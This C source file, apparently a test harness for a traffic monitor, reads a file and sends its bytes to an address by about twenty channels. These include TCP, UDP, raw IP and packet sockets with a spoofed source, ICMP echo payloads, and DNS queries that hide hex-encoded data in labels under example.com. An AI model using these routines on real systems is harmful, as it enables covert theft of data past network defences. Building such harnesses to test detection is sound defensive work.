/* SPDX-License-Identifier: Apache-2.0 */
/* Reads a file plainly, then sends what it read to an address in one of many ways. At most LIMIT bytes where
 * a way is slow. UDP and raw packets need nobody who listens: what crosses the wire counts. */
#include <liburing.h>
#include <linux/errqueue.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sys/sendfile.h>

#include "common.h"

#ifndef UDP_SEGMENT
#define UDP_SEGMENT 103
#endif
enum { kStream = 9000, kDatagram = 9100, kDatagramPiece = 1400, kQueryPiece = 180, kSlow = 640 * 1024 };

static struct bytes file;
static const char* path;
static const char* address;

static struct sockaddr_in name_of(int port) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    if (inet_pton(AF_INET, address, &to.sin_addr) != 1) misused("an IPv4 address");
    return to;
}

static size_t least(size_t one, size_t other) {
    return one < other ? one : other;
}

/* Nobody listens, so some sends are answered by "connection refused", and full queues by "no buffer space".
 */
static void sent(long result, const char* what) {
    if (result < 0 && errno != ECONNREFUSED && errno != ENOBUFS && errno != EAGAIN) refused(what);
}

static void by_sendto(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0);
    for (size_t at = 0; at < file.size; at += kPiece)
        checked(sendto(sock, file.data + at, least(kPiece, file.size - at), 0, 0, 0), "sendto");
}

static void by_mptcp(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 262);
    for (size_t at = 0; at < file.size; at += kPiece)
        checked(sendto(sock, file.data + at, least(kPiece, file.size - at), 0, 0, 0), "send over MPTCP");
}

/* The first bytes go out with the connection request: no connect is called. */
static void by_fast_open(void) {
    for (size_t at = 0; at < file.size;) {
        struct sockaddr_in to = name_of(kStream);
        int sock = (int)checked(socket(AF_INET, SOCK_STREAM, 0), "socket");
        at += (size_t)checked(sendto(sock, file.data + at, least(kPiece, file.size - at), MSG_FASTOPEN,
                                     (struct sockaddr*)&to, sizeof(to)),
                              "sendto with fast open");
        close(sock);
    }
}

static void by_zero_copy(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0), on = 1;
    checked(setsockopt(sock, SOL_SOCKET, SO_ZEROCOPY, &on, sizeof(on)), "SO_ZEROCOPY");
    for (size_t at = 0; at < file.size; at += kPiece)
        checked(send(sock, file.data + at, least(kPiece, file.size - at), MSG_ZEROCOPY), "zero-copy send");
    sleep(1);
}

static void by_sendfile(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0), from = open_to_read(path);
    while (checked(sendfile(sock, from, 0, kPiece), "sendfile") > 0)
        continue;
}

static void by_splice(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0), from = open_to_read(path), ends[2];
    checked(pipe(ends), "pipe");
    for (;;) {
        long count = checked(splice(from, 0, ends[1], 0, kPiece, 0), "splice from file");
        if (!count) return;
        while (count > 0)
            count -= checked(splice(ends[0], 0, sock, 0, (size_t)count, 0), "splice to socket");
    }
}

static void by_vmsplice(void) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0), ends[2];
    checked(pipe(ends), "pipe");
    for (size_t at = 0; at < file.size; at += kPiece) {
        struct iovec part = {file.data + at, least(kPiece, file.size - at)};
        long count = checked(vmsplice(ends[1], &part, 1, 0), "vmsplice");
        while (count > 0)
            count -= checked(splice(ends[0], 0, sock, 0, (size_t)count, 0), "splice to socket");
    }
}

static void by_ring(int zero_copy) {
    int sock = connect_to(address, kStream, SOCK_STREAM, 0);
    struct io_uring ring;
    errno = -io_uring_queue_init(8, &ring, 0);
    if (errno) refused("io_uring");
    for (size_t at = 0; at < file.size;) {
        struct io_uring_sqe* entry = io_uring_get_sqe(&ring);
        struct io_uring_cqe* done;
        size_t count = least(kPiece, file.size - at);
        if (zero_copy)
            io_uring_prep_send_zc(entry, sock, file.data + at, count, 0, 0);
        else
            io_uring_prep_send(entry, sock, file.data + at, count, 0);
        io_uring_submit(&ring);
        int more = 1;
        while (more) {
            errno = -io_uring_wait_cqe(&ring, &done);
            if (errno > 0) refused("io_uring");
            errno = -done->res;
            if (done->res < 0) refused("io_uring send");
            at += (done->flags & IORING_CQE_F_NOTIF) ? 0 : (size_t)done->res;
            more = done->flags & IORING_CQE_F_MORE;
            io_uring_cqe_seen(&ring, done);
        }
    }
}

static void by_uring(void) {
    by_ring(0);
}

static void by_uring_zero_copy(void) {
    by_ring(1);
}

static void by_datagrams_of(int type, int protocol, int port, size_t piece) {
    struct sockaddr_in to = name_of(port);
    int sock = (int)checked(socket(AF_INET, type, protocol), "socket");
    for (size_t at = 0; at < file.size; at += piece)
        sent(sendto(sock, file.data + at, least(piece, file.size - at), 0, (struct sockaddr*)&to, sizeof(to)),
             "sendto");
}

static void by_udp(void) {
    by_datagrams_of(SOCK_DGRAM, 0, kDatagram, kDatagramPiece);
}

static void by_udp_lite(void) {
    by_datagrams_of(SOCK_DGRAM, IPPROTO_UDPLITE, kDatagram, kDatagramPiece);
}

/* An IP protocol of its own (253 is for experiments). */
static void by_raw(void) {
    by_datagrams_of(SOCK_RAW, 253, 0, kDatagramPiece);
}

static void by_udp_many(void) {
    struct sockaddr_in to = name_of(kDatagram);
    int sock = (int)checked(socket(AF_INET, SOCK_DGRAM, 0), "socket");
    for (size_t at = 0; at < file.size; at += 8 * kDatagramPiece) {
        struct mmsghdr messages[8];
        struct iovec parts[8];
        for (size_t i = 0; i < 8; i++) {
            parts[i] = (struct iovec){file.data + at + i * kDatagramPiece, kDatagramPiece};
            messages[i] = (struct mmsghdr){
                .msg_hdr = {
                    .msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &parts[i], .msg_iovlen = 1}};
        }
        sent(sendmmsg(sock, messages, 8, 0), "sendmmsg");
    }
}

static void by_udp_cork(void) {
    struct sockaddr_in to = name_of(kDatagram);
    int sock = (int)checked(socket(AF_INET, SOCK_DGRAM, 0), "socket"), on = 1, off = 0;
    checked(connect(sock, (struct sockaddr*)&to, sizeof(to)), "connect");
    for (size_t at = 0; at + 4 * 300 < file.size; at += 4 * 300) {
        setsockopt(sock, IPPROTO_UDP, UDP_CORK, &on, sizeof(on));
        for (size_t i = 0; i < 4; i++)
            sent(send(sock, file.data + at + i * 300, 300, 0), "corked send");
        setsockopt(sock, IPPROTO_UDP, UDP_CORK, &off, sizeof(off));
    }
}

/* One send becomes many datagrams. */
static void by_udp_segments(void) {
    struct sockaddr_in to = name_of(kDatagram);
    int sock = (int)checked(socket(AF_INET, SOCK_DGRAM, 0), "socket"), segment = kDatagramPiece;
    checked(setsockopt(sock, IPPROTO_UDP, UDP_SEGMENT, &segment, sizeof(segment)), "UDP_SEGMENT");
    for (size_t at = 0; at < file.size; at += 40 * kDatagramPiece)
        sent(sendto(sock, file.data + at, least(40 * kDatagramPiece, file.size - at), 0,
                    (struct sockaddr*)&to, sizeof(to)),
             "segmented send");
}

static uint16_t checksum(const void* data, size_t size) {
    const uint8_t* at = data;
    uint32_t sum = 0;
    for (size_t i = 0; i < size; i++)
        sum += i % 2 ? at[i] : (uint32_t)at[i] << 8;
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void by_echo_of(int type) {
    struct sockaddr_in to = name_of(0);
    int sock = (int)checked(socket(AF_INET, type, IPPROTO_ICMP), "socket");
    struct {
        struct icmphdr head;
        char data[kDatagramPiece];
    } packet = {.head = {.type = ICMP_ECHO}};
    for (size_t at = 0; at < least(file.size, 2 * kSlow); at += kDatagramPiece) {
        memcpy(packet.data, file.data + at, kDatagramPiece);
        packet.head.checksum = 0;
        packet.head.checksum = checksum(&packet, sizeof(packet));
        sent(sendto(sock, &packet, sizeof(packet), 0, (struct sockaddr*)&to, sizeof(to)), "echo request");
    }
}

static void by_icmp(void) {
    by_echo_of(SOCK_RAW);
}

/* What an unprivileged ping uses. */
static void by_ping(void) {
    by_echo_of(SOCK_DGRAM);
}

/* Bytes as hexadecimal labels of names that a server for a domain of the insider's would be asked for. */
static void by_dns(void) {
    struct sockaddr_in to = name_of(53);
    int sock = (int)checked(socket(AF_INET, SOCK_DGRAM, 0), "socket");
    for (size_t at = 0; at < least(file.size, kSlow); at += kQueryPiece / 2) {
        unsigned char query[512] = {0, 0, 1, 0, 0, 1};
        size_t end = 12;
        for (int label = 0; label < 3; label++) {
            query[end++] = 60;
            for (size_t i = 0; i < 30; i++, end += 2)
                sprintf((char*)query + end, "%02x", (uint8_t)file.data[at + (size_t)label * 30 + i]);
        }
        memcpy(query + end, "\7example\3com\0\0\x10\0\1", 17);
        sent(sendto(sock, query, end + 17, 0, (struct sockaddr*)&to, sizeof(to)), "DNS query");
    }
}

static void frame(unsigned char* packet, size_t payload) {
    struct iphdr* ip = (struct iphdr*)(packet + sizeof(struct ethhdr));
    struct sockaddr_in to = name_of(0);
    *ip = (struct iphdr){.version = 4,
                         .ihl = 5,
                         .ttl = 64,
                         .protocol = IPPROTO_UDP,
                         .daddr = to.sin_addr.s_addr,
                         .saddr = inet_addr("198.51.100.1"),
                         .tot_len = htons((uint16_t)(28 + payload))};
    ip->check = checksum(ip, sizeof(*ip));
    struct udphdr* udp = (struct udphdr*)(ip + 1);
    *udp = (struct udphdr){
        .source = htons(kDatagram), .dest = htons(kDatagram), .len = htons((uint16_t)(8 + payload))};
}

static void by_packet_of(int ring) {
    enum { kHeads = sizeof(struct ethhdr) + 28, kFrame = 2048, kFrames = 64 };
    struct sockaddr_ll to = {.sll_family = AF_PACKET,
                             .sll_protocol = htons(ETH_P_IP),
                             .sll_halen = 6,
                             .sll_ifindex = (int)if_nametoindex("mw-inside"),
                             .sll_addr = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff}};
    int sock = (int)checked(socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP)), "packet socket");
    unsigned char* slots = 0;
    if (ring) {
        struct tpacket_req size = {kFrame * kFrames, 1, kFrame, kFrames};
        checked(setsockopt(sock, SOL_PACKET, PACKET_TX_RING, &size, sizeof(size)), "PACKET_TX_RING");
        slots = mmap(0, kFrame * kFrames, PROT_READ | PROT_WRITE, MAP_SHARED, sock, 0);
        if (slots == MAP_FAILED) refused("mmap of the ring");
    }
    checked(bind(sock, (struct sockaddr*)&to, sizeof(to)), "bind");
    for (size_t at = 0, slot = 0; at < least(file.size, 4 * kSlow); at += kDatagramPiece, slot++) {
        unsigned char packet[kHeads + kDatagramPiece] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 2,
                                                         0,    0,    0,    0,    1,    8,    0};
        frame(packet, kDatagramPiece);
        memcpy(packet + kHeads, file.data + at, kDatagramPiece);
        if (!ring) {
            sent(sendto(sock, packet, sizeof(packet), 0, (struct sockaddr*)&to, sizeof(to)), "packet");
            continue;
        }
        struct tpacket_hdr* head = (struct tpacket_hdr*)(slots + slot % kFrames * kFrame);
        memcpy((char*)head + TPACKET_HDRLEN - sizeof(struct sockaddr_ll), packet, sizeof(packet));
        head->tp_len = sizeof(packet);
        head->tp_status = TP_STATUS_SEND_REQUEST;
        if (slot % kFrames == kFrames - 1) sent(send(sock, 0, 0, 0), "send of the ring");
    }
}

static void by_packet(void) {
    by_packet_of(0);
}

static void by_packet_ring(void) {
    by_packet_of(1);
}

static const struct {
    const char* name;
    void (*act)(void);
} ways[] = {
    {"sendto", by_sendto},
    {"mptcp", by_mptcp},
    {"fast-open", by_fast_open},
    {"zero-copy", by_zero_copy},
    {"sendfile", by_sendfile},
    {"splice", by_splice},
    {"vmsplice", by_vmsplice},
    {"uring", by_uring},
    {"uring-zero-copy", by_uring_zero_copy},
    {"udp", by_udp},
    {"udp-lite", by_udp_lite},
    {"udp-many", by_udp_many},
    {"udp-cork", by_udp_cork},
    {"udp-segments", by_udp_segments},
    {"raw", by_raw},
    {"icmp", by_icmp},
    {"ping", by_ping},
    {"dns", by_dns},
    {"packet", by_packet},
    {"packet-ring", by_packet_ring},
};

int main(int count, char** words) {
    if (count != 4) misused("send_by WAY FILE ADDRESS");
    path = words[2];
    address = words[3];
    struct stat facts;
    checked(stat(path, &facts), path);
    file = memory((size_t)facts.st_size + kPiece);
    int from = open_to_read(path);
    file.size = read_some(from, file.data, (size_t)facts.st_size);
    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        if (strcmp(ways[i].name, words[1]) != 0) continue;
        ways[i].act();
        return 0;
    }
    misused("send_by: no such way");
}
